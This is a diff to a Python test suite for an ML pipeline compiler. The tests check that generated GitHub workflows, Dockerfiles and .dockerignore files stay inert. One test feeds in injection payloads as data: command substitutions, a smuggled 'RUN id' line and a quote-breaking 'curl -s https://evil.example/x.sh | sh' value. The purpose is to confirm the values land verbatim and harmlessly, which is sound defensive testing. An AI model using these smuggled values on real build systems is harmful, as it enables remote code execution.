@@ -146,7 +146,9 @@ def strings(value: Any) -> list[str]:
 
 
 FIXED_EXPRESSIONS = {"${{ github.workflow }}", "${{ github.ref }}", "${{ runner.temp }}", "${{ github.actor }}",
-                     "${{ github.token }}", "${{ steps.meta.outputs.tags }}", "${{ steps.meta.outputs.labels }}"}
+                     "${{ github.token }}", "${{ steps.meta.outputs.tags }}", "${{ steps.meta.outputs.labels }}",
+                     # the final report job: job results and a repository variable, both in env only
+                     "${{ join(needs.*.result, ' ') }}", "${{ vars.MLSPEC_PUSHGATEWAY }}"}
 
 
 def assert_workflow_inert(plan, path: str, text: str, benign: str) -> None:
@@ -213,23 +215,37 @@ def ignore_regex(pattern: str) -> re.Pattern[str]:
     return re.compile("".join(out), re.S)
 
 
-def assert_dockerignore_inert(plan, text: str, benign: str) -> None:
+def assert_dockerignore_inert(plan, path: str, text: str, benign: str) -> None:
     """One pattern per line (as Docker splits: on \\n only, and no other line break anywhere),
-    each spec path's pattern matching that path and nothing wider than one character."""
+    the comments exactly the benign file's, and each spec path's pattern matching that path and
+    nothing wider than one character."""
     assert len(text.splitlines()) == text.count("\n")
+
+    def comments(t: str) -> list[str]:
+        return [ln for ln in t.split("\n") if ln.startswith("#") and not ln.startswith("# mlspec-sha256:")]
+
+    assert comments(text) == comments(benign)
+    kind = "train" if path.endswith("train.dockerignore") else "serve" if path.endswith("serve.dockerignore") else "context"
     lines = [ln for ln in text.split("\n") if ln and not ln.startswith("#")]
-    model = plan.model_path
-    outputs = sorted({o for n in plan.nodes for o in n.outputs} - {model})
-    used = {d for n in plan.nodes for d in n.data}
-    repo_data = sorted(d.uri for d in plan.data if d.scheme is None and d.name in used)
-    # (re-included?, path): an output may itself start with '!' and is still excluded
-    intended = [(False, o) for o in outputs] + [(True, u) for u in repo_data] + [(True, model)]
-    assert lines[:len(dk.IGNORED)] == list(dk.IGNORED)  # mlspec's own patterns, as they are
-    ours = lines[len(dk.IGNORED):]
+    fixed = [p for _, patterns in dk.NEVER for p in patterns] + list(dk.PRODUCED)
+    assert lines[:len(fixed)] == fixed  # mlspec's own patterns, as they are
+    written = [o for n in (*plan.nodes, *plan.monitor_nodes) for o in n.outputs]
+    written += [plan.train_metrics_path, plan.eval_metrics_path]
+    if plan.monitoring is not None and plan.monitoring.performance is not None:
+        written.append(plan.monitoring.performance.metrics_path)
+    data = [d.uri for d in plan.data if d.scheme is None]
+    excluded = sorted({c for c in map(dk.context_path, [*data, *written]) if c})
+    # (re-included?, path): a path may itself start with '!' and is still excluded
+    intended = [(False, p) for p in excluded]
+    if kind != "serve":
+        intended += [(True, p) for p in dk.training_reads(plan)]
+    if kind != "train" and dk.served_model(plan):
+        intended.append((True, dk.served_model(plan)))
+    ours = lines[len(fixed):]
     assert len(ours) == len(intended)
-    for line, (include, path) in zip(ours, intended):
-        assert line.startswith("!") is include, (line, path)
-        assert ignore_regex(line[1:] if include else line).fullmatch(path), (line, path)
+    for line, (include, spec_path) in zip(ours, intended):
+        assert line.startswith("!") is include, (line, spec_path)
+        assert ignore_regex(line[1:] if include else line).fullmatch(spec_path), (line, spec_path)
 
 
 def assert_inert(plan) -> None:
@@ -239,10 +255,10 @@ def assert_inert(plan) -> None:
     for path, text in out.items():
         if path.startswith(".github/workflows/"):
             assert_workflow_inert(plan, path, text, benign[path])
-        elif path.startswith("docker/Dockerfile"):
+        elif path.startswith("docker/Dockerfile") and not path.endswith(".dockerignore"):
             assert_dockerfile_inert(plan, path, text, benign[path])
         else:
-            assert_dockerignore_inert(plan, text, benign[path])
+            assert_dockerignore_inert(plan, path, text, benign[path])
 
 
 # --------------------------------------------------------------------------- the tests
@@ -251,7 +267,8 @@ def assert_inert(plan) -> None:
 def test_baseline_compiles_with_every_field_in_use() -> None:
     plan, out = baseline()
     assert sorted(out) == [".dockerignore", ".github/workflows/churn-ci.yml", ".github/workflows/churn-train.yml",
-                           dk.SERVE_DOCKERFILE, dk.TRAIN_DOCKERFILE]
+                           dk.SERVE_DOCKERFILE, f"{dk.SERVE_DOCKERFILE}.dockerignore",
+                           dk.TRAIN_DOCKERFILE, f"{dk.TRAIN_DOCKERFILE}.dockerignore"]
     assert [n.id for n in plan.nodes] == ["check.raw", "step.prep", "train", "evaluate", "gate", "approve",
                                           "register", "build"]
 
@@ -273,6 +290,8 @@ def test_values_land_verbatim_where_they_belong() -> None:
     command = 'python train.py "$(id)" `id` ${HOME} it\'s \\\nRUN id\n      - name: exfil'
     env_value = '"; curl -s https://evil.example/x.sh | sh; echo "'
     doc = set_path(set_path(BASE, ("training", "run"), command), ("training", "env", "TRAIN_MODE"), env_value)
+    # training reads no step's output here, so the image's default command is the training command
+    doc = set_path(doc, ("training", "needs"), ["data.raw"])
     result = check(doc)
     assert result.ok, [d.to_json() for d in result.diagnostics if d.is_error]
     out = artifacts(result.plan)
